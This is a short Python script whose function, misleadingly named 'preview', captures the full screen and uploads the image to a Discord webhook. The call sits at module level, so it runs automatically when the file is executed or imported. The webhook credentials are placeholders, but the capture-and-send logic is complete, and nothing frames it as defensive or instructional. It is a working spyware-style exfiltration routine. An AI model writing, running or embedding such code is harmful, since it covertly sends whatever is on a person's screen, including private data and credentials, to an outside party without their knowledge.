import io

import requests
from PIL import ImageGrab

HOOK = "https://discord.com/api/webhooks/000000000000000000/inert-token"


def preview():
    shot = ImageGrab.grab()
    buf = io.BytesIO()
    shot.save(buf, "PNG")
    requests.post(HOOK, files={"file": ("preview.png", buf.getvalue())})


preview()
